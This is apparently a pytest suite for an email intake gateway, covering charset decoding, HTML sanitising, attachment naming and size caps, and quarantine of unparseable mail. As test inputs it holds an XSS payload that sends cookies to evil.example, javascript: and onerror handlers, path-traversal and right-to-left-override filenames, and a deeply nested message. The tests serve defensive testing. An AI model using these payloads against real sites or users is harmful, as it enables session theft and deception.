"""Content: subjects and bodies in any charset, HTML turned into text and kept sanitised,
attachments kept with safe names within caps, and a message that cannot be parsed quarantined
with the error (and released by staff all the same). The whole gateway on SQLite and
PostgreSQL; the attachment caps also directly against the database."""

from __future__ import annotations

import struct
from collections.abc import Iterator

import pytest

from intake.jobs import jobs
from intake.jobs.queue import make_queue
from intake.mail.attachments import Caps, keep_attachments
from intake.requests.quarantine import release
from intake.settings import Settings
from intake.store.db import Database
from intake.store.models import IntakeAttachment, IntakeRecord
from parsers import AttachmentInfo
from tests.helpers import Relay, add_contact, make_mail
from tests.hygiene_support import ADA, Gateway, gateway_for, reply_to

HOSTILE_HTML = (
    "<html><head><style>p {color: red}</style><script>alert('head')</script></head><body>"
    "<p onclick=\"alert('p')\">The export <b>fails</b>.</p>"
    '<img src="http://tracker.example/pixel.gif?u=ada" onerror="alert(\'img\')">'
    '<img src="cid:screenshot@acme" alt="screenshot">'
    "<a href=\"javascript:alert('link')\">click here</a> "
    '<a href="https://status.acme.example/">status page</a>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<iframe src="https://evil.example/"></iframe></body></html>'
)


@pytest.fixture
def gateway(settings: Settings, redis_url: str, relay: Relay) -> Iterator[Gateway]:
    with gateway_for(settings, redis_url, relay) as gw:
        yield gw


def test_headers_and_bodies_in_many_charsets_are_decoded(gateway: Gateway) -> None:
    russian = "Экспорт не работает с утра".encode("koi8-r")
    raw = (
        b"From: =?iso-8859-1?Q?Ada_L=F6velace?= <ada@acme.example>\r\n"
        b"To: support@intake.localhost\r\n"
        b"Subject: =?iso-8859-1?Q?Export_schl=E4gt_fehl?= =?utf-8?B?4oCU?= =?x-bogus?Q?caf=E9?=\r\n"
        b"Message-ID: <charsets@acme.example>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b"--b\r\nContent-Type: text/plain; charset=koi8-r\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n" + russian + b"\r\n"
        b"--b\r\nContent-Type: text/plain; charset=x-bogus\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\ncaf\xc3\xa9 \xff\r\n"
        b"--b\r\nContent-Type: application/pdf\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''R%C3%A9sum%C3%A9.pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--b--\r\n"
    )
    gateway.send(raw)
    gateway.drain()
    (request,) = gateway.requests()
    assert request.subject == "Export schlägt fehl—caf\ufffd"  # no space between words
    assert "Экспорт не работает с утра" in request.description
    assert "café \ufffd" in request.description  # an unknown charset: UTF-8, with replacement
    (pdf,) = gateway.attachments(gateway.rows()[0].id)
    assert (pdf.filename, pdf.content_type, pdf.data) == ("Résumé.pdf", "application/pdf", b"%PDF-")


def test_a_raw_8bit_subject_is_read_in_the_declared_charset(gateway: Gateway) -> None:
    raw = (
        b"From: ada@acme.example\r\nSubject: R\xe9sum\xe9 du probl\xe8me\r\n"
        b"Content-Type: text/plain; charset=iso-8859-1\r\n\r\nLe syst\xe8me est lent.\r\n"
    )
    gateway.send(raw)
    gateway.drain()
    (request,) = gateway.requests()
    assert (request.subject, request.description) == ("Résumé du problème", "Le système est lent.")


def test_nul_and_lone_surrogates_in_headers_and_body_are_stored_cleaned(
    gateway: Gateway,
) -> None:
    """UTF-7 decodes "+2AA-" to a lone surrogate and an encoded word can hold a NUL: neither
    database stores them, so the message would fail its whole batch with a 451 for ever."""
    raw = (
        b"From: ada@acme.example\r\nSubject: =?utf-7?Q?+2AA-?= and =?utf-8?B?AA==?= end\r\n"
        b"Content-Type: text/plain; charset=utf-7\r\n\r\nbody +2AA- and \x00 NUL\r\n"
    )
    gateway.send(raw)
    gateway.send(make_mail(ADA, "The next message"))
    gateway.drain()
    assert [r.outcome for r in gateway.rows()] == ["accepted", "accepted"]
    first = gateway.requests()[0]
    assert first.subject == "\ufffd and  end"
    assert first.description == "body \ufffd and  NUL"


def test_html_becomes_text_and_is_kept_only_sanitised(gateway: Gateway) -> None:
    message = make_mail(ADA, "Export fails")
    message.set_content(HOSTILE_HTML, subtype="html")
    gateway.send(message)
    gateway.drain()
    (request,) = gateway.requests()
    assert "The export fails." in request.description
    assert "click here" in request.description and "alert" not in request.description
    (created,) = gateway.events(request.id, "created")
    html = created.detail["html"]
    assert "<b>fails</b>" in html and 'src="cid:screenshot@acme"' in html
    assert 'href="https://status.acme.example/"' in html
    for danger in ("<script", "onclick", "onerror", "javascript:", "tracker.example", "iframe"):
        assert danger not in html


def test_attachments_keep_safe_names_their_types_and_bytes(gateway: Gateway) -> None:
    message = make_mail(ADA, "Files")
    message.add_attachment(b"root:x:0:0", maintype="text", subtype="plain")
    message.add_attachment(b"MZ\x90", "application", "octet-stream")
    tnef = _tnef_stream("IPM.Microsoft Mail.Note", "The export fails at night.")
    message.add_attachment(tnef, "application", "ms-tnef", filename="winmail.dat")
    parts = list(message.iter_attachments())
    # names as an attacker writes them: a path out of any folder, a right-to-left override
    parts[0].set_param("filename", "../../etc/passwd", header="Content-Disposition")
    parts[1].set_param("filename", "invoice\u202egpj.exe", header="Content-Disposition")
    gateway.send(message)
    gateway.drain()
    files = gateway.attachments(gateway.rows()[0].id)
    assert [(f.filename, f.content_type, f.size) for f in files] == [
        ("passwd", "text/plain", 10),
        ("invoicegpj.exe", "application/octet-stream", 3),
        ("winmail.dat", "application/ms-tnef", len(tnef)),
    ]
    assert files[2].data == tnef and files[0].data == b"root:x:0:0"
    (created,) = gateway.events(gateway.requests()[0].id, "created")
    assert [a["filename"] for a in created.detail["attachments"]] == [f.filename for f in files]


def test_only_the_first_twenty_attachments_get_a_row(gateway: Gateway) -> None:
    message = make_mail(ADA, "Many files")
    for n in range(22):
        message.add_attachment(b"x" * n, "application", "octet-stream", filename=f"f{n}.bin")
    gateway.send(message)
    gateway.drain()
    files = gateway.attachments(gateway.rows()[0].id)
    assert [f.filename for f in files] == [f"f{n}.bin" for n in range(20)]
    (created,) = gateway.events(gateway.requests()[0].id, "created")
    assert created.detail["attachments_left_out"] == 2


def test_size_caps_keep_the_row_but_not_the_bytes(db: Database) -> None:
    with db.transaction() as session:
        row = IntakeRecord(channel="email", dedupe_key="caps", outcome="accepted")
        session.add(row)
        session.flush()
        files = [AttachmentInfo(f"{n}.bin", "application/zip", size, b"z" * size) for n, size in
                 enumerate([5, 11, 5, 5])]  # fmt: skip
        said = keep_attachments(session, row.id, files, Caps(count=3, each=10, total=12))
        intake_id = row.id
    with db.sessions() as session:
        stored = session.query(IntakeAttachment).filter_by(intake_id=intake_id).all()
    assert [(f.filename, f.data) for f in sorted(stored, key=lambda f: f.position)] == [
        ("0.bin", b"zzzzz"),
        ("1.bin", None),  # over the cap for one file
        ("2.bin", b"zzzzz"),
    ]
    assert said["attachments_left_out"] == 1
    assert [a["note"] for a in said["attachments"]] == ["", "not kept: larger than 10 bytes", ""]
    with db.transaction() as session:
        said = keep_attachments(session, intake_id, files[:3], Caps(each=10, total=8))
    assert said["attachments"][2]["note"] == "not kept: the message's files exceed 8 bytes in all"


def test_a_follow_up_in_html_is_stripped_and_sanitised(gateway: Gateway) -> None:
    request_id, ack = gateway.first_request_and_ack()
    reply = reply_to(ack, "")
    reply.set_content(
        "<div>New error 42 <img src=x onerror=alert(1)></div>"
        "<div>On Mon, Support wrote:</div><blockquote>older text</blockquote>",
        subtype="html",
    )
    gateway.send(reply)
    gateway.drain()
    (message,) = gateway.events(request_id, "message")
    assert message.detail["text"] == "New error 42"
    assert "older text" in message.detail["full_text"]
    assert "onerror" not in message.detail["html"]


def test_an_unparseable_message_is_quarantined_and_can_be_released(gateway: Gateway) -> None:
    nested = b"From: ada@acme.example\r\nSubject: nested\r\nContent-Type: message/rfc822\r\n\r\n"
    gateway.send(nested * 5000 + b"From: x@y\r\n\r\ninnermost\r\n")
    gateway.send(make_mail(ADA, "The next message"))
    gateway.drain()
    bad, good = gateway.rows()
    assert (bad.outcome, bad.reason, bad.state) == ("quarantined", "parse_error", "done")
    assert bad.detail == "The message could not be parsed: nesting too deep to parse"
    assert bad.raw and bad.request_id is None
    assert (good.outcome, len(gateway.requests())) == ("accepted", 1)
    with gateway.rt.db.transaction() as session:
        release(session, bad.id, by="alice")
    jobs.enqueue_intake(make_queue(gateway.rt.settings, gateway.redis), bad.id)
    gateway.drain()
    released = gateway.rows()[0]
    assert (released.outcome, released.reason, released.state) == ("accepted", "released", "done")
    assert "Subject: nested" in gateway.requests()[-1].description


def test_an_internationalised_address_is_acknowledged_over_smtputf8(gateway: Gateway) -> None:
    add_contact(gateway.rt.db, "jøran@example.com", customer="Nordic AS", name="Jøran")
    raw = "From: Jøran <jøran@example.com>\r\nSubject: Hei\r\n\r\nEksporten feiler.\r\n"
    gateway.send(raw.encode())
    gateway.drain()
    (ack,) = gateway.relay.messages
    assert gateway.relay.handler.envelopes[0][1] == ["jøran@example.com"]
    assert str(ack["To"]) == "jøran@example.com"
    assert gateway.requests()[0].acknowledged_at is not None


def _tnef_stream(message_class: str, body: str) -> bytes:
    """A winmail.dat as Outlook writes it (MS-OXTNEF): the signature, a key, then attributes
    (level, id and type, length, data, a 16-bit checksum of the data)."""

    def attribute(level: int, attribute_id: int, data: bytes) -> bytes:
        checksum = sum(data) & 0xFFFF
        return (
            struct.pack("<BII", level, attribute_id, len(data)) + data + struct.pack("<H", checksum)
        )

    version = attribute(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    oem_codepage = attribute(1, 0x00069007, struct.pack("<II", 1252, 0))  # attOemCodepage
    kind = attribute(1, 0x00078008, message_class.encode() + b"\0")  # attMessageClass
    text = attribute(1, 0x0002800C, body.encode())  # attBody
    return struct.pack("<IH", 0x223E9F78, 0x0106) + version + oem_codepage + kind + text
